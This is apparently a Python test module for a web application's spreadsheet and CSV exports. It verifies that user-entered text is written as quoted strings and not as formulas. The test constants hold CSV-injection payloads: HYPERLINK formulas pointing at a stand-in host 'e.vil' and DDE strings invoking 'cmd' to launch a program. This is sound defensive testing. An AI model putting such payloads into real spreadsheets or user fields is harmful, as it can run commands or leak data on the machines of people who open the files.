"""Spreadsheet formula injection: every export writes user text as text, never as a formula.

An enterprise user files a request titled ``=HYPERLINK(...)``; a chain office names a link
``@SUM(...)``; a department titles a task ``+cmd|...``. Each export URL is downloaded as a
leader and opened with openpyxl: no cell in any sheet is a formula, and the hostile text is
there exactly as typed, in a string cell with the quote prefix (OWASP's CSV-injection advice).
"""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from wulian.chains.tests.helpers import build_chain
from wulian.core.exports import XlsxWorkbook, csv_bytes, is_formula_like
from wulian.keywork.tests.factories import make_task, meeting
from wulian.service.tests.factories import file_request, setup_loop

ROOT = Path(__file__).resolve().parent.parent
REQUEST_TITLE = '=HYPERLINK("http://e.vil/?x","x")'
ENTERPRISE_NAME = "=cmd|' /C calc'!A0"
LINK_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
TASK_TITLE = '+HYPERLINK("http://e.vil","go")'
TARGET_TEXT = "-2+3+cmd|' /C calc'!A0"
STANDARD = "\t=1+1"
SOURCE = "\r=1+1"


def cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_text_not_formula(response, *expected):
    assert response.status_code == 200, response.status_code
    assert response.content[:2] == b"PK"
    found = {}
    for cell in cells(response.content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and is_formula_like(cell.value):
            assert cell.quotePrefix, (cell.coordinate, cell.value)
        found[cell.value] = cell
    for text in expected:
        assert text in found, (text, sorted(map(str, found))[:40])
        assert found[text].data_type in ("s", "inlineStr")


@pytest.fixture
def hostile(users):
    """Hostile text in the fields users type, across the modules that export."""
    _categories, enterprise = setup_loop(users)
    enterprise.name = ENTERPRISE_NAME
    enterprise.save(update_fields=["name"])
    file_request(users, title=REQUEST_TITLE)
    chain, _links = build_chain(
        links=[("ore", LINK_NAME, "up"), ("acid", "酸", "mid")],
        edges=[("ore", "acid")],
        firms=[("ore", 50000, "main", "330825", {"name": ENTERPRISE_NAME + "2"})],
    )
    make_task(title=TASK_TITLE, target_text=TARGET_TEXT, done_standard=STANDARD)
    return {"chain": chain, "meeting": meeting()}


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("/service/export.xlsx", [REQUEST_TITLE, ENTERPRISE_NAME]),
        ("/enterprises/export.xlsx", [ENTERPRISE_NAME]),
        ("/keywork/tasks.xlsx", [TASK_TITLE, TARGET_TEXT, STANDARD]),
        ("/keywork/meetings/{meeting}/tasks.xlsx", [TASK_TITLE, TARGET_TEXT, STANDARD]),
        ("/chains/xcl/report.xlsx", [LINK_NAME, ENTERPRISE_NAME + "2"]),
        ("/fusion/xcl/report.xlsx", [LINK_NAME]),
    ],
)
def test_every_export_writes_hostile_text_as_text(client, users, hostile, url, expected):
    client.force_login(users["leader"])
    response = client.get(url.format(meeting=hostile["meeting"].pk))
    assert_text_not_formula(response, *expected)


def test_service_statistics_export(client, users, hostile):
    # Category names are set by administrators, but the sheet is written the same safe way.
    from wulian.service.models import ServiceCategory
    from wulian.service.rollup import rebuild

    ServiceCategory.objects.filter(code="policy").update(name="=1+1")
    rebuild()
    client.force_login(users["leader"])
    assert_text_not_formula(client.get("/service/stats/export.xlsx"), "=1+1")


def test_indicator_exports_write_a_hostile_source_as_text(client, users):
    from wulian.indicators import demo
    from wulian.indicators.models import Observation

    demo.load()
    Observation.objects.filter(region_id="330800").update(source=SOURCE)
    client.force_login(users["leader"])
    for url in ("/indicators/?format=xlsx", "/indicators/prosperity/?format=xlsx"):
        assert_text_not_formula(client.get(url), SOURCE)
    code = Observation.objects.filter(region_id="330800").values_list("indicator__code")[0][0]
    assert_text_not_formula(client.get(f"/indicators/{code}/?format=xlsx"), SOURCE)


def test_numbers_dates_and_plain_text_stay_what_they_are():
    workbook = XlsxWorkbook()
    sheet = workbook.sheet("表[1]:?", header=["a", "b"])
    sheet.append([-5, Decimal("2.50"), 1.5, dt.date(2025, 3, 1), True, "普通文本", "a\x01b", None])
    sheet.append([float("nan"), "-", "=", "@", "+86 570", "1-2"])
    book = openpyxl.load_workbook(io.BytesIO(workbook.to_bytes()))
    sheet = book.worksheets[0]
    assert sheet.title == "表_1___"
    assert sheet["A1"].font.b
    row = [c.value for c in sheet[2]]
    assert row[:3] == [-5, 2.5, 1.5] and row[4:6] == [True, "普通文本"]
    assert row[3].date() == dt.date(2025, 3, 1)
    assert row[6] == "a\ufffdb"
    assert [c.data_type for c in sheet[2][:3]] == ["n", "n", "n"]
    second = sheet[3]
    assert second[0].value is None
    assert [c.value for c in second[1:6]] == ["-", "=", "@", "+86 570", "1-2"]
    assert [c.quotePrefix for c in second[1:6]] == [True, True, True, True, False]
    assert all(c.data_type == "s" for c in second[1:6])


def test_csv_prefixes_formula_like_text_with_a_quote_and_keeps_numbers():
    rows = [[REQUEST_TITLE, -5], ["@x", Decimal("1.5")], ["普通", None]]
    data = csv_bytes(["名称", "数值"], rows)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["名称", "数值"], ["'" + REQUEST_TITLE, "-5"], ["'@x", "1.5"], ["普通", ""]]


def test_no_module_writes_a_spreadsheet_except_through_core_exports():
    writers = re.compile(r"\bWorkbook\(|csv\.(writer|DictWriter)\(|\bxlsxwriter\b")
    offenders = []
    for path in ROOT.glob("wulian/**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if "/tests/" in relative or relative == "wulian/core/exports.py":
            continue
        if writers.search(path.read_text()):
            offenders.append(relative)
    assert offenders == []
